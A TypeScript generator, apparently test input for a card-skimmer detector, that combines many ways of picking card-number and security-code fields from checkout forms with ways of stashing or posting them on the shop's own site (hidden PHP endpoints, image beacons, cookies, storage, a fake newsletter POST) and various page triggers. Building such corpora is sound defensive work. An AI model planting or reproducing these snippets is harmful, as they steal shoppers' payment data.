// Skimmers put together from how they pick fields, where they leave the data on the shop's own site, and when.

type Choice = [name: string, code: (form: string) => string, ...shown: string[]]

/** Each makes `d`; the report shows the names that it compares. */
const choices: Choice[] = [
  [
    'object of names',
    (f) =>
      `const w = { cc_num: 1, cc_cid: 1 }, d = {}; for (const i of ${f}.elements) if (w[i.name]) d[i.name] = i.value`,
    'cc_num',
    'cc_cid',
  ],
  [
    'names with in',
    (f) =>
      `const w = { pan_no: "p" }; let d = ""; for (const i of ${f}.elements) if (i.name in w) d += i.value`,
    'pan_no',
  ],
  [
    'set of ids',
    (f) =>
      `const w = new Set(["acct", "sec"]); let d = ""; for (const i of ${f}.elements) if (w.has(i.id)) d += i.value`,
    'acct',
    'sec',
  ],
  [
    'list in a variable',
    (f) =>
      `const w = ["num", "exp_m"], d = []; for (let k = 0; k < ${f}.length; k++) if (w.indexOf(${f}[k].name) > -1) d.push(${f}[k].value)`,
    'num',
    'exp_m',
  ],
  [
    'pattern in a variable',
    () =>
      'const w = /zahl|ccn/i, d = []; document.querySelectorAll("input").forEach((i) => { if (w.test(i.name + i.id)) d.push(i.value) })',
    'zahl',
  ],
  [
    'own attribute',
    (f) =>
      `let d = ""; ${f}.querySelectorAll("[data-f]").forEach((i) => { if (i.dataset.f === "zahl") d += i.value })`,
    'zahl',
  ],
  [
    'label',
    (f) =>
      `let d = ""; for (const i of ${f}.elements) if (/Kartennr/.test(i.labels[0].textContent)) d += i.value`,
    'Kartennr',
  ],
  [
    'placeholder',
    (f) => `const d = [...${f}.elements].find((i) => i.placeholder === "0000 0000").value`,
    '0000 0000',
  ],
  [
    'selector that matches',
    (f) =>
      `let d = ""; for (const i of ${f}.elements) i.matches('[autocomplete^="cc"],[name*=zahl]') && (d += i.value)`,
    'autocomplete^=',
    'zahl',
  ],
  [
    'end of a name',
    (f) => `const d = [...${f}.elements].reduce((a, i) => (i.name.endsWith("nummer") ? a + i.value : a), "")`,
    'nummer',
  ],
  [
    'start of an id',
    (f) =>
      `let d = "", n = ${f}.firstElementChild; while (n) { if (n.id.slice(0, 3) === "crd") d += n.value; n = n.nextElementSibling }`,
    'crd',
  ],
  [
    'helper',
    (f) =>
      `function get(l, n) { for (const i of l) if (i.name === n) return i.value } const d = get(${f}.elements, "ktnr") + get(${f}.elements, "cod")`,
    'ktnr',
    'cod',
  ],
  [
    'object filled by name',
    (f) =>
      `const o = {}; for (const { name: n, value: v } of ${f}.elements) o[n] = v; const d = o.seccode; for (const i of ${f}) if (i.name === "seccode") o[i.name] = 1`,
    'seccode',
  ],
  [
    'attribute node',
    (f) =>
      `let d = ""; for (const i of ${f}.getElementsByTagName("input")) if (i.attributes.name.value === "kno") d += i.value`,
    'kno',
  ],
  [
    'names in a list by number',
    (f) =>
      `const p = ["value", "name", "cardno"]; let d = ""; for (const i of ${f}.elements) if (i[p[1]] === p[2]) d += i[p[0]]`,
    'cardno',
  ],
  [
    'named item',
    (f) => `const d = ${f}.elements.namedItem("knr").value + ${f}.elements["pzf"].value`,
    'knr',
    'pzf',
  ],
  ['data of the form', (f) => `const d = new FormData(${f}).get("nummer")`, 'nummer'],
  ['selector with a name', () => `const d = document.querySelector('[name="zk1"]').value`, 'zk1'],
  ['list of ids', () => 'const d = ["zn", "zc"].map((i) => document.getElementById(i).value).join()'],
  [
    'what it holds',
    (f) =>
      String.raw`let d = ""; for (const i of ${f}.elements) if (/^\d{13,19}$/.test(i.value)) d = i.value`,
  ],
  ['place in the form', (f) => `const d = ${f}[2].value + ${f}.elements[4].value`],
  [
    'getter of all inputs',
    (f) =>
      `const get = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value").get; const d = [...${f}.elements].map((i) => get.call(i)).join()`,
  ],
]

const sendings: [name: string, code: string][] = [
  ['XHR', 'const x = new XMLHttpRequest(); x.open("POST", "/media/tmp/u.php"); x.send(d)'],
  ['fetch', 'fetch("/skin/t.php", { method: "POST", body: JSON.stringify({ d }) })'],
  ['request', 'fetch(new Request("/gql", { method: "PUT", body: d }))'],
  ['image', 'new Image().src = "/media/1.gif?" + encodeURIComponent(d)'],
  ['element', 'const g = document.createElement("img"); g.setAttribute("src", "/p.png?" + d)'],
  ['cookie', 'document.cookie = "_u=" + btoa(d)'],
  ['cookie store', 'cookieStore.set("t", d)'],
  ['store', 'localStorage["_c"] = d'],
  ['cache', 'caches.open("v").then((c) => c.put("/x", new Response(d)))'],
  [
    'database',
    'indexedDB.open("c").onsuccess = (o) => o.target.result.transaction("s", "readwrite").objectStore("s").add(d)',
  ],
  ['address', 'history.replaceState(null, "", "?r=" + d)'],
  ['window name', 'window.name = d'],
  ['variable for another script', 'window.__st = d'],
  ['function of another script', 'tracker.push({ d })'],
  ['channel', 'new BroadcastChannel("a").postMessage(d)'],
  ['style', 'document.body.style.backgroundImage = "url(/b.png?" + d + ")"'],
  ['jQuery', '$.post("/newsletter/add", { email: d })'],
]

const triggers: [name: string, code: (body: (form: string) => string) => string][] = [
  ['submit', (body) => `document.forms[0].addEventListener("submit", (e) => { ${body('e.target')} })`],
  ['handler', (body) => `document.forms[0].onsubmit = function () { ${body('this')} }`],
  [
    'click',
    (body) =>
      `document.querySelector("#order").addEventListener("click", () => { const form = document.forms[0]; ${body('form')} })`,
  ],
  [
    'blur',
    (body) => `document.body.addEventListener("focusout", (t) => { ${body('t.target.closest("form")')} })`,
  ],
  [
    'timer',
    (body) => `setInterval(() => { const f = document.forms.checkout; if (!f) return; ${body('f')} }, 2500)`,
  ],
  [
    'observer',
    (body) =>
      `new MutationObserver(() => { const f = document.getElementById("pay"); ${body('f')} }).observe(document.body, {})`,
  ],
  [
    'class',
    (body) =>
      `class A { constructor(r) { this.r = r; r.addEventListener("submit", this.go.bind(this)) } go() { const r = this.r; ${body('r')} } } new A(document.forms[0])`,
  ],
  [
    'promise',
    (body) =>
      `(async () => { const form = await new Promise((ok) => document.addEventListener("submit", (e) => ok(e.target))); ${body('form')} })()`,
  ],
]

/** Each choice with `each` of the others, in a different combination every time. */
export function combinations(each: number): { name: string; code: string; shown: string[] }[] {
  return choices.flatMap(([choice, pick, ...shown], row) =>
    Array.from({ length: each }, (_, column) => {
      const [sending, send] = sendings[(row * 5 + column * 7) % sendings.length]!
      const [trigger, start] = triggers[(row * 3 + column) % triggers.length]!
      return {
        name: `${choice}, ${sending}, ${trigger}`,
        code: start((form) => `${pick(form)}; ${send}`),
        shown,
      }
    }),
  )
}
